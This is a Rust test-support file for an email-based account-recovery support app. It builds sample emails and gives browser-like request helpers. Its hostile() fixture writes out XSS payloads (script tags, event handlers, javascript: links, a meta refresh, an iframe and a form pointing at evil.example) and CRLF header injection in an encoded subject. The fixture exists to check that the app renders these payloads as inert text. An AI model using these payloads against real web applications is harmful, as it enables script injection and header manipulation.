//! Shared by the web tests: an app on a fresh database, filled through the real pipeline, with
//! one staff account, and helpers to drive it through `oneshot` like a browser would.

#![allow(dead_code)]

use axum::body::Body;
use axum::extract::connect_info::MockConnectInfo;
use axum::http::{Request, StatusCode, header};
use mailcase::clock::Clock;
use mailcase::config::Config;
use mailcase::pipeline::{Incoming, Pipeline};
use mailcase::store::Store;
use mailcase::web::{self, AppState};
use std::net::SocketAddr;
use tower::ServiceExt as _;

pub const STAFF: &str = "alice";
pub const PASSWORD: &str = "correct horse battery";
pub const T0: &str = "2026-02-12T10:00:00Z";

/// A PNG of one pixel.
pub const PNG: &[u8] = &[
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52,
    0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1f, 0x15, 0xc4,
    0x89, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0xf8, 0xcf, 0xc0, 0xf0,
    0x1f, 0x00, 0x05, 0x00, 0x01, 0xff, 0x89, 0x99, 0x3d, 0x1d, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45,
    0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
];

pub fn b64(b: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(b)
}

/// The first request: a person locked out, with a screenshot and an HTML file attached.
pub fn request_jane() -> String {
    format!(
        "From: Jane Roe <jane@example.org>\r\nTo: support@mailcase.localhost\r\n\
Subject: Locked out of PyPI after losing my phone\r\nMessage-ID: <jane-1@example.org>\r\n\
Date: Thu, 12 Feb 2026 09:00:00 +0000\r\nMIME-Version: 1.0\r\n\
Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
Hello,\r\n\r\nmy PyPI username is janeroe. I lost my phone with the authenticator app, so I cannot log in.\r\n\
I never saved the recovery codes.\r\n\r\nThanks,\r\nJane\r\n\r\n--b1\r\nContent-Type: image/png; name=\"screen.png\"\r\n\
Content-Disposition: attachment; filename=\"screen.png\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n--b1\r\n\
Content-Type: text/html; name=\"page.html\"\r\nContent-Disposition: attachment; filename=\"page.html\"\r\n\r\n\
<html><body><script>alert('from attachment')</script>hi</body></html>\r\n--b1--\r\n",
        b64(PNG)
    )
}

/// Jane answers the acknowledgement, quoting it; her text carries a recovery code.
pub fn follow_up_jane(reference: &str, ack_id: &str) -> String {
    format!(
        "From: Jane Roe <jane@example.org>\r\nTo: support@mailcase.localhost\r\n\
Subject: Re: [{reference}] Locked out of PyPI after losing my phone\r\nMessage-ID: <jane-2@example.org>\r\n\
In-Reply-To: <{ack_id}>\r\nReferences: <jane-1@example.org> <{ack_id}>\r\n\
Date: Thu, 12 Feb 2026 09:30:00 +0000\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
I can still read mail at this address. I agree to follow the Code of Conduct and I understand the\r\n\
review may take a significant amount of time. One old code I found, 0123456789abcdef, does not work.\r\n\r\n\
On Thu, Feb 12, 2026 at 9:05 AM Account Support <support@mailcase.localhost> wrote:\r\n\
> Thank you for your request. QUOTEDMARKER please answer the questions below.\r\n\
> 1. Can you read mail at the account address?\r\n"
    )
}

/// Someone else answers in the thread.
pub fn different_sender(reference: &str, ack_id: &str) -> String {
    format!(
        "From: Boss <boss@corp.example>\r\nTo: support@mailcase.localhost\r\n\
Subject: Re: [{reference}] Locked out of PyPI after losing my phone\r\nMessage-ID: <boss-1@corp.example>\r\n\
In-Reply-To: <{ack_id}>\r\nDate: Thu, 12 Feb 2026 09:40:00 +0000\r\nContent-Type: text/plain\r\n\r\n\
I vouch for Jane, her username is actually janedoe.\r\n"
    )
}

/// Payloads that must stay text: script, event handlers, javascript: links, CSS tricks,
/// template syntax, header injection through an encoded subject and display name.
pub const HOSTILE_MARK: &str = "HOSTILEMARK";

pub fn hostile() -> String {
    let html = "<html><head><style>body{display:none} .top{visibility:hidden}</style>\
<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"></head><body>\
<script>window.__pwned=1;alert('html')</script><img src=x onerror=\"window.__pwned=2\">\
<a href=\"javascript:window.__pwned=3\">HTMLLINK</a><iframe src=\"https://evil.example/\"></iframe>\
<form action=\"https://evil.example/\"><input name=password></form><p>HOSTILEMARK html part</p></body></html>";
    format!(
        "From: \"<script>window.__pwned=4</script>\" <evil@example.net>\r\nTo: support@mailcase.localhost\r\n\
Subject: =?utf-8?q?<img_src=3Dx_onerror=3Dalert(1)>_help=0D=0ASet-Cookie:_pwned=3D1=0D=0ABcc:_all@example.net?=\r\n\
Message-ID: <evil-1@example.net>\r\nDate: Thu, 12 Feb 2026 09:50:00 +0000\r\nMIME-Version: 1.0\r\n\
Content-Type: multipart/alternative; boundary=\"alt\"\r\n\r\n--alt\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
HOSTILEMARK my username is <script>window.__pwned=5</script>\r\n\
<img src=x onerror=\"window.__pwned=6\"> <svg onload=\"window.__pwned=7\"></svg>\r\n\
<a href=\"javascript:window.__pwned=8\">click me</a> javascript:window.__pwned=9\r\n\
<style>*{{display:none!important}}</style><link rel=stylesheet href=\"https://evil.example/x.css\">\r\n\
\"><script>window.__pwned=10</script> '-alert(1)-' {{{{ 7*7 }}}} {{% raw %}}\r\n\
</textarea></details></pre><script>window.__pwned=11</script>\r\n\r\n--alt\r\n\
Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n--alt--\r\n"
    )
}

/// Another person, about TestPyPI.
pub fn request_other(n: usize) -> String {
    format!(
        "From: Person {n} <person{n}@example.com>\r\nTo: support@mailcase.localhost\r\n\
Subject: TestPyPI account {n} locked\r\nMessage-ID: <person-{n}@example.com>\r\n\
Date: Thu, 12 Feb 2026 08:00:00 +0000\r\nContent-Type: text/plain\r\n\r\n\
Hi, I lost 2FA on test.pypi.org for my user tester{n}. zebrafish{n}\r\n"
    )
}

/// An app on a fresh database with one staff account.
pub struct TestApp {
    pub dir: tempfile::TempDir,
    pub cfg: Config,
    pub store: Store,
    pub state: AppState,
    pub pipeline: Pipeline,
}

pub fn clock_at(t: &str) -> Clock {
    Clock::fixed_from_str(t).expect("valid time")
}

impl TestApp {
    pub async fn new() -> TestApp {
        TestApp::with_config(|_| {}).await
    }

    pub async fn with_config(f: impl FnOnce(&mut Config)) -> TestApp {
        let dir = tempfile::tempdir().expect("temp dir");
        let mut cfg = Config {
            database: dir.path().join("web.db"),
            ..Config::default()
        };
        f(&mut cfg);
        cfg.validate().expect("config");
        let store = Store::open(&cfg.database).await.expect("store");
        let clock = clock_at(T0);
        let pipeline = Pipeline::new(&cfg, store.clone(), clock)
            .await
            .expect("pipeline");
        let state = AppState::new(&cfg, store.clone(), clock)
            .await
            .expect("state");
        let app = TestApp {
            dir,
            cfg,
            store,
            state,
            pipeline,
        };
        app.add_staff(STAFF, PASSWORD).await;
        app
    }

    /// The same database seen at another time (sessions expire, limits pass).
    pub async fn at(&self, t: &str) -> AppState {
        AppState::new(&self.cfg, self.store.clone(), clock_at(t))
            .await
            .expect("state")
    }

    pub async fn add_staff(&self, name: &str, password: &str) {
        let hash = web::auth::hash_password(password.into()).await.unwrap();
        let mut conn = self.store.conn().await.unwrap();
        mailcase::store::web::staff_insert(&mut conn, name, &hash, T0)
            .await
            .unwrap()
            .expect("new account");
    }

    pub async fn ingest(&self, raws: &[String]) {
        let batch = raws
            .iter()
            .enumerate()
            .map(|(i, r)| Incoming {
                raw: r.as_bytes().to_vec(),
                source: format!("test:{i}"),
                truncated_from: None,
            })
            .collect();
        self.pipeline.ingest(batch).await.expect("ingest");
    }

    /// The reference and acknowledgement Message-ID of the case of `requester`.
    pub async fn case_of(&self, requester: &str) -> (String, String) {
        let mut conn = self.store.conn().await.unwrap();
        let all = mailcase::store::cases::list(&mut conn, &Default::default())
            .await
            .unwrap();
        let c = all
            .iter()
            .find(|c| c.requester == requester)
            .unwrap_or_else(|| panic!("no case of {requester}"));
        let out = mailcase::store::outbox::of_case(&mut conn, c.id)
            .await
            .unwrap();
        let ack = out
            .first()
            .map(|o| o.message_id.clone())
            .unwrap_or_default();
        (c.reference.clone(), ack)
    }

    /// Jane's case with a follow-up and a different sender; the hostile case; two others.
    pub async fn seed(&self) -> Seeded {
        self.ingest(&[
            request_jane(),
            hostile(),
            request_other(1),
            request_other(2),
        ])
        .await;
        let (jane, ack) = self.case_of("jane@example.org").await;
        self.ingest(&[follow_up_jane(&jane, &ack), different_sender(&jane, &ack)])
            .await;
        let (evil, _) = self.case_of("evil@example.net").await;
        let (other, _) = self.case_of("person1@example.com").await;
        let (other2, _) = self.case_of("person2@example.com").await;
        Seeded {
            jane,
            evil,
            other,
            other2,
        }
    }
}

/// References of the seeded cases.
pub struct Seeded {
    pub jane: String,
    pub evil: String,
    pub other: String,
    pub other2: String,
}

/// A response, read whole.
pub struct Resp {
    pub status: StatusCode,
    pub headers: axum::http::HeaderMap,
    pub body: String,
    pub bytes: Vec<u8>,
}

impl Resp {
    pub fn header(&self, name: &str) -> &str {
        self.headers
            .get(name)
            .and_then(|v| v.to_str().ok())
            .unwrap_or("")
    }

    pub fn location(&self) -> &str {
        self.header("location")
    }

    pub fn set_cookies(&self) -> Vec<String> {
        self.headers
            .get_all(header::SET_COOKIE)
            .iter()
            .filter_map(|v| v.to_str().ok().map(String::from))
            .collect()
    }

    /// The `name=value` of a cookie this response sets.
    pub fn cookie(&self, name: &str) -> Option<String> {
        self.set_cookies()
            .iter()
            .find(|c| c.starts_with(&format!("{name}=")))
            .map(|c| c.split(';').next().unwrap_or("").to_string())
    }

    /// The value of the first hidden input `name` in the page.
    pub fn hidden(&self, name: &str) -> String {
        let pat = format!("name=\"{name}\" value=\"");
        let at = self
            .body
            .find(&pat)
            .unwrap_or_else(|| panic!("no hidden {name} in page: {}", self.body));
        let rest = &self.body[at + pat.len()..];
        unescape(&rest[..rest.find('"').unwrap()])
    }

    /// The page with HTML entities decoded (what a browser shows or follows).
    pub fn text(&self) -> String {
        unescape(&self.body)
    }
}

/// Decodes the entities minijinja writes.
pub fn unescape(s: &str) -> String {
    s.replace("&#x2f;", "/")
        .replace("&quot;", "\"")
        .replace("&#x27;", "'")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

/// Form-encodes pairs.
pub fn form(pairs: &[(&str, &str)]) -> String {
    pairs
        .iter()
        .map(|(k, v)| {
            format!(
                "{}={}",
                web::render::url_encode(k),
                web::render::url_encode(v)
            )
        })
        .collect::<Vec<_>>()
        .join("&")
}

/// A browser-like client of one app state: keeps its cookies, talks through `oneshot`.
pub struct Client {
    pub state: AppState,
    pub cookies: Vec<String>,
    pub addr: SocketAddr,
    pub extra: Vec<(String, String)>,
}

impl Client {
    pub fn new(state: AppState) -> Client {
        Client {
            state,
            cookies: Vec::new(),
            addr: "127.0.0.1:50000".parse().unwrap(),
            extra: Vec::new(),
        }
    }

    pub fn from(mut self, ip: &str) -> Client {
        self.addr = format!("{ip}:50000").parse().unwrap();
        self
    }

    pub async fn send(&mut self, method: &str, path: &str, body: Option<String>) -> Resp {
        let mut req = Request::builder().method(method).uri(path);
        req = req.header(header::HOST, "127.0.0.1:8025");
        if !self.cookies.is_empty() {
            req = req.header(header::COOKIE, self.cookies.join("; "));
        }
        for (k, v) in &self.extra {
            req = req.header(k.as_str(), v.as_str());
        }
        let req = match body {
            Some(b) => req
                .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                .body(Body::from(b)),
            None => req.body(Body::empty()),
        }
        .unwrap();
        let app = web::router(self.state.clone()).layer(MockConnectInfo(self.addr));
        let res = app.oneshot(req).await.expect("response");
        let status = res.status();
        let headers = res.headers().clone();
        let bytes = axum::body::to_bytes(res.into_body(), 16 << 20)
            .await
            .expect("body")
            .to_vec();
        let resp = Resp {
            status,
            headers,
            body: String::from_utf8_lossy(&bytes).into_owned(),
            bytes,
        };
        for c in resp.set_cookies() {
            let pair = c.split(';').next().unwrap_or("").to_string();
            let name = pair.split('=').next().unwrap_or("").to_string();
            self.cookies.retain(|x| !x.starts_with(&format!("{name}=")));
            if !c.contains("Max-Age=0") {
                self.cookies.push(pair);
            }
        }
        resp
    }

    pub async fn get(&mut self, path: &str) -> Resp {
        self.send("GET", path, None).await
    }

    pub async fn post(&mut self, path: &str, pairs: &[(&str, &str)]) -> Resp {
        self.send("POST", path, Some(form(pairs))).await
    }

    /// Logs in through the form; returns the POST's response.
    pub async fn login_as(&mut self, name: &str, password: &str) -> Resp {
        let page = self.get("/login").await;
        let csrf = page.hidden("csrf");
        self.post(
            "/login",
            &[
                ("name", name),
                ("password", password),
                ("csrf", &csrf),
                ("next", "/cases"),
            ],
        )
        .await
    }

    /// Logs in as the default staff member and returns the session's CSRF token.
    pub async fn login(&mut self) -> String {
        let r = self.login_as(STAFF, PASSWORD).await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "login failed: {}", r.body);
        self.get("/cases").await.hidden("csrf")
    }
}
